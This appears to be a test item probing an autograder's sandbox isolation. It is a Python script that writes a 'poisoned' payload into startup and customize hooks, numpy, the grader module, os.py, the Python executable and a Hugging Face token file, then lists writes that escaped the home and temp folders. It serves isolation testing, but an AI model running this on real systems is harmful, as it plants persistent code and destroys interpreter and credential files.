"""Writes where the next student's code would look: start files, libraries, caches and temporary folders."""

# earns: double 4, Counter 2, twice 3
# shows: elsewhere \[\]

# %%
import os
import site
import sys
import sysconfig

import autograder

poison = "raise SystemExit('poisoned')"
home = os.environ["HOME"]
places = [
    f"{home}/.ipython/profile_default/startup/00.py",
    f"{home}/.local/lib/python3/site-packages/usercustomize.py",
    f"{home}/.cache/huggingface/token",
    f"{home}/.nexttoken/attempts.jsonl",
    "/tmp/.ipython/profile_default/startup/00.py",
    "/tmp/nexttoken-attack",
    "/dev/shm/nexttoken-attack",
    "/dev/nexttoken-attack",
    "/nexttoken-attack",
    *[f"{folder}/nexttoken-attack.pth" for folder in sys.path if os.path.isdir(folder)],
    *[f"{folder}/numpy/__init__.py" for folder in sys.path if os.path.isdir(folder)],
    f"{sysconfig.get_path('stdlib')}/sitecustomize.py",
    autograder.__file__,
    sys.executable,
    json.__file__ if "json" in globals() else os.__file__,
]
written = []
for place in places:
    try:
        os.makedirs(os.path.dirname(place), exist_ok=True)
        with open(place, "w") as file:
            file.write(poison)
        written.append(place)
    except OSError:
        pass
print("elsewhere", [place for place in written if not place.startswith((home, "/tmp/", "/dev/shm/"))])
